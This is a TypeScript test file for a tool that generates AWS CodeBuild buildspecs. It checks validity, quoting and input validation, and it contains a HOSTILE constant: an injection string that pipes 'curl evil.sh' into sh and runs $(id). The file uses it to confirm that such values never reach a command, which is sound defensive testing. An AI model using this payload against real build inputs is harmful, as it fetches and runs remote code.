import { Ajv } from 'ajv';
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { generateBuildspec } from '../../../../src/core/buildspecs/generate.js';
import { commandLines, type Buildspec } from '../../../../src/core/buildspecs/kinds.js';
import { BUILDSPEC_KINDS, type BuildspecKind } from '../../../../src/core/buildspecs/options.js';
import { buildspecSchema } from '../../../../src/core/buildspecs/schema.js';
import { InputError } from '../../../../src/core/errors.js';
import { parseShell, unquotedExpansions } from './shell.js';

const validate = new Ajv({ allErrors: true, strict: false }).compile(buildspecSchema);
const gen = (kind: BuildspecKind, options: Record<string, string> = {}) =>
  generateBuildspec(kind, (n) => options[n] ?? '', '1.2.3');

/** Hostile values: each would break out of a command if it were pasted into one. */
const HOSTILE = `x"; curl evil.sh | sh; echo "$(id)\`whoami\`' $HOME`;

function checkFile(text: string): Buildspec {
  const doc = parse(text) as Buildspec;
  if (!validate(doc)) throw new Error(JSON.stringify(validate.errors, null, 2));
  for (const { where, line } of commandLines(doc)) {
    expect(() => parseShell(line)).not.toThrow();
    expect({ where, unquoted: unquotedExpansions(line) }).toEqual({ where, unquoted: [] });
  }
  return doc;
}

describe('generated buildspecs', () => {
  it.each(BUILDSPEC_KINDS)('%s: valid buildspec 0.2, every command parses with no unquoted expansion', (kind) => {
    checkFile(gen(kind).text);
  });

  it.each(BUILDSPEC_KINDS)('%s: the checked-in file in buildspecs/ is what the generator writes', (kind) => {
    const file = readFileSync(new URL(`../../../../buildspecs/${kind}.yml`, import.meta.url), 'utf8');
    const { text } = generateBuildspec(kind, () => '', JSON.parse(readFileSync('package.json', 'utf8')).version);
    expect(file).toBe(text);
  });

  it('is deterministic: the same options give the same bytes, whatever their order', () => {
    const a = gen('container', { 'build-arg': 'B=2\nA=1' }).text;
    const b = gen('container', { 'build-arg': 'A=1\nB=2' }).text;
    expect(a).toBe(b);
  });

  it('container: logs in, builds with build args, tests, reports JUnit, pushes and exports IMAGE_URI', () => {
    const doc = checkFile(gen('container', { 'build-arg': 'PY_VERSION=3.12', 'report-group': 'unit-tests' }).text);
    expect(doc.env['exported-variables']).toEqual(['IMAGE_URI', 'IMAGE_TAG']);
    expect(doc.env.variables.PY_VERSION).toBe('3.12');
    const pre = doc.phases.pre_build!.commands.join('\n');
    expect(pre).toContain('docker login --username AWS --password-stdin "$ECR_REGISTRY"');
    expect(pre).toContain('IMAGE_TAG="${CODEBUILD_RESOLVED_SOURCE_VERSION:?');
    expect(pre).toContain('docker build --file "$DOCKERFILE" --tag "$IMAGE_URI" --build-arg PY_VERSION "$BUILD_CONTEXT"');
    expect(doc.phases.build!.commands[1]).toContain('-c "$TEST_COMMAND"');
    expect(doc.phases.post_build!.commands[0]).toMatch(/CODEBUILD_BUILD_SUCCEEDING.*docker push "\$IMAGE_URI"/);
    expect(doc.reports).toEqual({
      'unit-tests': { files: ['**/*.xml'], 'base-directory': 'reports/junit', 'file-format': 'JUNITXML' },
    });
  });

  it('hostile values land only in env.variables, never in a command', () => {
    for (const [kind, options] of [
      ['container', { 'test-command': HOSTILE, dockerfile: HOSTILE, 'build-context': HOSTILE, 'build-arg': `X=${HOSTILE}` }],
      ['pipeline', { parameters: JSON.stringify({ p: HOSTILE }) }],
      ['metrics', { thresholds: HOSTILE, 'check-name': HOSTILE, 'model-package-group': HOSTILE }],
    ] as const) {
      const doc = checkFile(gen(kind, options).text);
      for (const { line } of commandLines(doc)) expect(line).not.toContain('evil');
      expect(JSON.stringify(doc.env.variables)).toContain('curl evil.sh');
    }
  });

  it('pipeline: installs the toolkit and runs pipeline start --wait, exporting the execution ARN', () => {
    const doc = checkFile(gen('pipeline', { 'pipeline-name': 'churn', parameters: 'Epochs: 3' }).text);
    expect(doc.env.variables).toMatchObject({ PIPELINE_NAME: 'churn', PIPELINE_PARAMETERS: '{"Epochs":"3"}', SAGEMAKER_CICD_VERSION: '1.2.3' });
    expect(doc.phases.install).toEqual({
      'runtime-versions': { nodejs: '24' },
      commands: ['npm install --global "sagemaker-cicd@$SAGEMAKER_CICD_VERSION"'],
    });
    expect(doc.phases.build!.commands[0]).toMatch(/^sagemaker-cicd pipeline start --wait true --pipeline-name "\$PIPELINE_NAME"/);
    expect(doc.env['exported-variables']).toEqual(['PIPELINE_EXECUTION_ARN']);
  });

  it("metrics: the check name is the report-metrics action's default, so both keep one comment", () => {
    const action = parse(readFileSync('actions/report-metrics/action.yml', 'utf8')) as {
      inputs: Record<string, { default?: string }>;
    };
    const checked = parse(readFileSync('buildspecs/metrics.yml', 'utf8')) as Buildspec;
    expect(action.inputs['check-name']!.default).toBe('Model metrics');
    expect(checked.env.variables.CHECK_NAME).toBe(action.inputs['check-name']!.default);
    expect(checkFile(gen('metrics', { 'node-version': '22.x' }).text).phases.install!['runtime-versions']).toEqual({ nodejs: '22.x' });
  });

  it('metrics: the GitHub token comes from Secrets Manager, not from the file', () => {
    const doc = checkFile(gen('metrics', { 'github-token-secret': 'ci/github:token' }).text);
    expect(doc.env['secrets-manager']).toEqual({ GITHUB_TOKEN: 'ci/github:token' });
    expect(doc.phases.build!.commands[0]).toMatch(/^sagemaker-cicd metrics report .*--github-token "\$GITHUB_TOKEN"/);
  });

  it.each([
    ['container', { 'build-arg': '1BAD=x' }, /build-arg.*names must be letters/],
    ['container', { 'build-arg': 'CODEBUILD_X=1' }, /CODEBUILD_/],
    ['container', { 'build-arg': 'novalue' }, /NAME=value/],
    ['container', { 'report-group': 'a b' }, /report-group/],
    ['container', { 'ecr-repository': 'Bad Repo' }, /ecr-repository/],
    ['pipeline', { 'pipeline-name': 'a;b' }, /pipeline-name/],
    ['pipeline', { parameters: '[1, 2]' }, /parameters/],
    ['metrics', { 'node-version': 'latest' }, /node-version/],
    // The AWS SDK for JavaScript v3 supports Node 22 and later.
    ['metrics', { 'node-version': '20' }, /node-version.*22 or later/],
    ['pipeline', { 'node-version': '18.x' }, /node-version.*22 or later/],
  ] as const)('%s refuses %j', (kind, options, message) => {
    expect(() => gen(kind, options)).toThrow(InputError);
    expect(() => gen(kind, options)).toThrow(message);
  });
});

describe('the buildspec schema', () => {
  it.each([
    ['a misspelt phase', { version: 0.2, phases: { 'post-build': { commands: ['x'] } } }],
    ['another version', { version: 0.1, phases: { build: { commands: ['x'] } } }],
    ['an unknown report format', { version: 0.2, phases: { build: { commands: ['x'] } }, reports: { r: { files: ['a'], 'file-format': 'JUNIT' } } }],
    ['a reserved variable name', { version: 0.2, env: { variables: { CODEBUILD_X: 'a' } }, phases: { build: { commands: ['x'] } } }],
    ['a non-string variable', { version: 0.2, env: { variables: { A: 1 } }, phases: { build: { commands: ['x'] } } }],
    ['empty commands', { version: 0.2, phases: { build: { commands: [] } } }],
  ])('refuses %s', (_what, doc) => {
    expect(validate(doc)).toBe(false);
  });

  it('the shell check catches an unquoted expansion and a parse error', () => {
    expect(unquotedExpansions('docker run $IMAGE')).toEqual(['ParamExp']);
    expect(unquotedExpansions('echo $(id)')).toEqual(['CmdSubst']);
    expect(unquotedExpansions('echo "$(id)" "${A:-b}"')).toEqual([]);
    expect(() => parseShell('echo "unterminated')).toThrow();
  });
});
